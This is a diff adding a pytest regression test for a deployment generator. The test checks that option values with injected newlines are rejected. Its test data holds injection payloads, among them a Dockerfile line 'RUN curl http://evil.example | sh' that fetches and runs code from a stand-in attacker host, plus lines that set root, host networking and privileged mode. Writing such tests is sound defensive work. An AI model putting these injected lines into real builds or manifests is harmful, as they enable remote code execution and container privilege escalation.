@@ -394,3 +394,17 @@ def test_checkov_finds_only_the_accepted_findings(deployed, tmp_path):
     write_deployment(pinned, DeployOptions("s3://b/r", namespace="search", image_digest="sha256:" + "0" * 64),
                      wheel=next(deployed.glob("*.whl")), sink=lambda m: None)
     assert set(checkov_failures(pinned / "k8s")) == {"CKV_K8S_35", "CKV_K8S_40"}
+
+
+@pytest.mark.parametrize("field, value", [
+    ("triton_tag", "24.10-py3\nRUN curl http://evil.example | sh"), ("image", "bgevl:1\nUSER root"),
+    ("namespace", "default\n  hostNetwork: true"), ("model_name", "bgevl\nx"), ("cpu", "4\nx"),
+    ("memory", "16Gi\n    privileged: true"), ("shm_size", "2Gi x")])
+def test_a_value_with_a_newline_or_outside_its_grammar_is_refused(field, value, tmp_path):
+    """`--triton-tag` with a newline injected a RUN line into the Dockerfile."""
+    import dataclasses
+
+    with pytest.raises(BgevlError, match=r"^--[a-z-]+ .*: not (a|an) "):
+        write_deployment(tmp_path / "x", dataclasses.replace(DeployOptions("s3://b/p"), **{field: value}),
+                         sink=lambda m: None)
+    assert not (tmp_path / "x").exists()
